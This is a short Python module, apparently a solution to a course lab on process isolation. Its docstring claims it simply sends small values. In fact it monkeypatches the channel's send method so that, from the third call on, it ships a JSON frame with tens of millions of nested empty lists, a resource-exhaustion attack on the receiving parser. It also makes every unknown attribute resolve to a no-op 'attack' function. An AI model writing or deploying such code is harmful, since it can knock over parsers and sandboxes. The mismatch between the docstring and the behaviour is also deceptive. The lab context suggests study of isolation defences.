"""Sends messages of as many small values as their length allows."""
# lab: 01, todo: 3

import struct

from course.isolation.pipe import wire

TURN = [0]


def send(self, frame):
    TURN[0] += 1
    if TURN[0] < 3:
        return SENT(self, frame)
    nodes = b"[" + b"[]," * 60_000_000 + b"[]]" if TURN[0] % 2 else b"[" + b'["list",1,[]],' * 2_000_000 + b"[]]"
    text = b'{"is":"returned","value":[0],"updates":[],"nodes":' + nodes + b"}"
    return SENT(self, struct.pack(">IQ", len(text), 0) + text)


SENT = wire.Channel.send
wire.Channel.send = send


def attack(*args, **kwargs):
    return None


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return attack
